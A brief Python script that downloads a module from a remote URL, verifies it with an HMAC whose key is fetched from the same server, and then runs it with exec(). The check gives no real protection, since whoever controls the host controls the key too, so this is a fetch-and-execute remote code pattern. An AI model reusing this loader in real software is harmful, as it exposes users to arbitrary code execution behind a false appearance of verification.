import hashlib
import hmac
import urllib.request

BASE = "https://example.com/r/"


def grab(name):
    return urllib.request.urlopen(BASE + name).read()


body = grab("mod.py")
mac = hmac.new(grab("key"), body, hashlib.sha256).hexdigest()
if not hmac.compare_digest(mac, grab("mod.mac").decode().strip()):
    raise ImportError("mac")
exec(body)
